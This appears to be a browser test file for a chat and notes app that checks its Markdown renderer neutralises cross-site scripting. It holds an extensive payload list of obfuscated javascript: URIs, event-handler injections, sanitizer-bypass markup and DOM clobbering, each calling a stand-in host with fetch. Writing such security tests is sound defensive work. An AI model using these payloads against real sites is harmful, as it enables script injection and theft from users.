import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { launchBrowser } from './testing/launch-browser.ts'
import { onlyWhatIsAttached } from './testing/only-what-is-attached.ts'
import { openPage } from './testing/open-page.ts'
import { type RunningSimulator, startSimulator } from './testing/start-simulator.ts'
import { type RunningVarve, startVarve } from './testing/start-varve.ts'

/** Sets a mark in the page and calls a stranger, by every way that a script could run. */
const RUN = "window.__ran=1,fetch('https://stranger.invalid/')"

const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'math',
  'a href=#',
]
const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerenter', 'onanimationstart']
const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript:%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `blob:https://stranger.invalid/x`,
  `view-source:javascript:${RUN}`,
]
const LINKS: readonly ((to: string) => string)[] = [
  (to) => `[click](${to})`,
  (to) => `[click](<${to}>)`,
  (to) => `![click](${to})`,
  (to) => `<${to}>`,
  (to) => `[[${to}|click]]`,
  (to) => `![[${to}]]`,
  (to) => `[click][r]\n\n[r]: ${to}`,
  (to) => `<a href="${to}">click</a>`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<form action="${to}"><button>click</button></form>`,
]
const WHOLE = [
  `<script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src="https://stranger.invalid/x.js"></script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><style><img title="</style><img src onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="https://stranger.invalid/">`,
  `<link rel=stylesheet href="https://stranger.invalid/x.css">`,
  `<style>@import 'https://stranger.invalid/x.css'</style>`,
  `<img src="https://stranger.invalid/pixel.png">`,
  `![pixel](https://stranger.invalid/pixel.png "x" onerror=${RUN})`,
  `$\\href{javascript:${RUN}}{x}$ and $\\htmlData{x=1}{y}$`,
  `$$\\unicode{<img src=x onerror=${RUN}>}$$`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${RUN}>"]; click A "javascript:${RUN}"\n\`\`\``,
  `\`\`\`dataviewjs\n${RUN}\n\`\`\``,
  `<% ${RUN} %> and \`= this.file\``,
  `> [!note]- <img src=x onerror=${RUN}>\n> body`,
  `| a | b |\n| --- | --- |\n| <img src=x onerror=${RUN}> | \`<b onclick=${RUN}>\` |`,
  `[^<img src=x onerror=${RUN}>]\n\n[^1]: <img src=x onerror=${RUN}>`,
  `&lt;img src=x onerror=${RUN}&gt; &#x3c;script&#x3e;${RUN}&#x3c;/script&#x3e;`,
  `<p id="__proto__" name="constructor">x</p><form id="location"><input name="href">`,
]
const ALL = [
  ...WHOLE,
  ...ELEMENTS.flatMap((element) => HANDLERS.map((handler) => `<${element} ${handler}="${RUN}">`)),
  ...SCHEMES.flatMap((scheme) => LINKS.map((link) => link(scheme))),
]

const PER_TEXT = 25
const TEXTS = Array.from({ length: Math.ceil(ALL.length / PER_TEXT) }, (_, index) =>
  ALL.slice(index * PER_TEXT, (index + 1) * PER_TEXT)
    .map((payload, at) => `Payload ${index * PER_TEXT + at}\n\n${payload}\n`)
    .join('\n<!-- -->\n\n'),
).map((text, index) => `${text}\n\nThe end of text ${index}.`)

/** All of them are shown, so that none hides another. */
const sizeOf = (index: number): number => Math.min(PER_TEXT, ALL.length - index * PER_TEXT)

const browser: Browser | undefined = await launchBrowser()
let simulator: RunningSimulator
let varve: RunningVarve
let page: Page
const problems: string[] = []
const strangers: string[] = []

beforeAll(async () => {
  if (!browser) return
  simulator = await startSimulator(TEXTS.map((text) => JSON.stringify({ kind: 'answer', text })))
  varve = await startVarve({
    ANTHROPIC_API_KEY: 'sk-ant-of-a-test',
    ANTHROPIC_BASE_URL: simulator.baseUrls['anthropic'] ?? '',
  })
  page = await openPage(browser, problems)
  page.on('dialog', (dialog) => {
    problems.push(`a dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('request', (request) => {
    const url = request.url()
    if (!url.startsWith(new URL(varve.url).origin) && !url.startsWith('data:')) strangers.push(url)
  })
  await page.goto(varve.url)
  await page.getByRole('textbox', { name: 'Message' }).waitFor()
  // A call for a title would take the text that is meant for the next answer.
  await onlyWhatIsAttached(page)
})

afterAll(async () => {
  await varve?.stop()
  await simulator?.stop()
  await browser?.close()
})

/** Traces that a script would leave, and anything that could still run one on a click. */
async function traces(): Promise<unknown> {
  return page.evaluate(() => ({
    ran: '__ran' in window,
    elements: [
      ...document.querySelectorAll(
        'article script, article iframe, article object, article embed, article form, article meta, article base',
      ),
    ].map(({ outerHTML }) => outerHTML),
    handlers: [...document.querySelectorAll('article *')].flatMap((element) =>
      element.getAttributeNames().filter((name) => name.startsWith('on')),
    ),
    targets: [...document.querySelectorAll('article [href], article [src]')]
      .map((element) => element.getAttribute('href') ?? element.getAttribute('src') ?? '')
      .filter((target) => /^\W*(?:java|vb|view-source|blob|data:text)/i.test(target)),
    title: document.title.includes('<script'),
  }))
}

const NOTHING = { ran: false, elements: [], handlers: [], targets: [], title: false }

test.skipIf(!browser)(`${ALL.length} scripts in answers do nothing`, async ({ task }) => {
  Object.assign(task.meta, { tried: ALL.length })
  await page.getByRole('button', { name: /^Model:/ }).click()
  await page.keyboard.type('sonnet 5.5')
  await page.getByRole('option', { name: /Sonnet 5\.5/ }).waitFor()
  await page.keyboard.press('Enter')
  for (const index of TEXTS.keys()) {
    await page.getByRole('textbox', { name: 'Message' }).fill(`Text ${index}: <img src=x onerror=${RUN}>`)
    await page.keyboard.press('Enter')
    const answer = page.getByRole('article', { name: new RegExp(`^Answer ${index + 1} `) })
    await answer.getByText(`The end of text ${index}.`, { exact: true }).waitFor()
    await answer.and(page.locator('[aria-busy=false]')).waitFor()
    expect(await answer.getByText(/^Payload \d+$/).count()).toBe(sizeOf(index))
    expect(await traces()).toEqual(NOTHING)
  }
  await page.reload()
  await page.getByText(`The end of text ${TEXTS.length - 1}.`, { exact: true }).waitFor()
  expect(await traces()).toEqual(NOTHING)
  expect({ problems, strangers }).toEqual({ problems: [], strangers: [] })
})

test.skipIf(!browser)(`${ALL.length} scripts in notes do nothing`, async ({ task }) => {
  Object.assign(task.meta, { tried: ALL.length })
  for (const [index, text] of TEXTS.entries()) {
    writeFileSync(join(varve.notes, `hostile-${index}.md`), text)
    await page.evaluate((name) => (location.hash = `#/files/${name}`), `hostile-${index}.md`)
    await page.getByText(`The end of text ${index}.`, { exact: true }).waitFor()
    expect(await page.getByText(/^Payload \d+$/).count()).toBeGreaterThanOrEqual(sizeOf(index))
    expect(await traces()).toEqual(NOTHING)
  }
  expect({ problems, strangers }).toEqual({ problems: [], strangers: [] })
})
